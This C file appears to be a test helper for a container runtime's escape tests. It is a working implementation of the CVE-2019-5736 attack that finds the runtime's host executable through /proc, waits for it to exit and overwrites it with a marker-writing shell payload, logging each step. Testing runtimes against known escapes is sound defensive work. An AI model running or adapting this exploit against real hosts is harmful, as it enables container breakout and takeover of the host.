/*
 * exe-attack: the CVE-2019-5736 attack, run as a container's process by EscapeTest.
 *
 * It scans /proc for a process that is not a container program (its exe is not under /bin or
 * /attack) — in a shared pid namespace or during `exec` that is the runtime's helper before it
 * execs the user's program — takes an O_PATH handle on /proc/PID/exe, waits for that process to
 * be gone (the kernel refuses writes to a running executable with ETXTBSY), and then reopens the
 * handle through /proc/self/fd/N for writing and overwrites the file. Every step is logged to
 * LOGFILE (one line each: seen, denied, holding, refused, OVERWRITTEN) so the test can tell
 * that the attack ran and how it was stopped.
 *
 * usage: exe-attack LOGFILE SECONDS
 * Build: gcc -static -O2 -o exe-attack exe-attack.c
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static const char PAYLOAD[] = "#!/bin/sh\necho escaped > /tmp/dockyard-exe-attack-escaped\n";

/* Holds FD (an O_PATH handle on a foreign exe) until it can be written or the attempt fails. */
static void try_overwrite(FILE *log, int fd, const char *what, double deadline)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	while (now() < deadline) {
		int w = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
		if (w >= 0) {
			ssize_t n = write(w, PAYLOAD, sizeof PAYLOAD - 1);
			fprintf(log, "OVERWRITTEN %s (%zd bytes)\n", what, n);
			close(w);
			return;
		}
		if (errno != ETXTBSY) {
			fprintf(log, "refused %s: %s\n", what, strerror(errno));
			return;
		}
		usleep(200);
	}
	fprintf(log, "gave up %s: still running\n", what);
}

int main(int argc, char **argv)
{
	if (argc != 3)
		return 2;
	FILE *log = fopen(argv[1], "a");
	if (!log)
		return 2;
	setvbuf(log, NULL, _IONBF, 0);
	double deadline = now() + atof(argv[2]);
	pid_t self = getpid();
	int attempts = 0;
	pid_t last_denied = 0;
	fprintf(log, "started pid %d\n", self);
	while (now() < deadline && attempts < 50) {
		DIR *d = opendir("/proc");
		if (!d)
			return 3;
		struct dirent *de;
		while ((de = readdir(d)) != NULL) {
			pid_t pid = (pid_t)atoi(de->d_name);
			if (pid <= 0 || pid == self)
				continue;
			char exe[64], target[512];
			snprintf(exe, sizeof exe, "/proc/%d/exe", pid);
			ssize_t n = readlink(exe, target, sizeof target - 1);
			if (n < 0) {
				/* once per pid: the process stays while it waits for start */
				if ((errno == EACCES || errno == EPERM) && pid != last_denied) {
					fprintf(log, "denied readlink pid %d: %s\n", pid, strerror(errno));
					last_denied = pid;
				}
				continue;
			}
			target[n] = '\0';
			if (strncmp(target, "/bin/", 5) == 0 || strncmp(target, "/attack", 7) == 0)
				continue;
			fprintf(log, "seen pid %d exe %s\n", pid, target);
			attempts++;
			int fd = open(exe, O_PATH | O_CLOEXEC);
			if (fd < 0) {
				fprintf(log, "denied open pid %d: %s\n", pid, strerror(errno));
				continue;
			}
			fprintf(log, "holding pid %d\n", pid);
			try_overwrite(log, fd, target, deadline);
			close(fd);
		}
		closedir(d);
		usleep(100);
	}
	fprintf(log, "done after %d attempts\n", attempts);
	return 0;
}
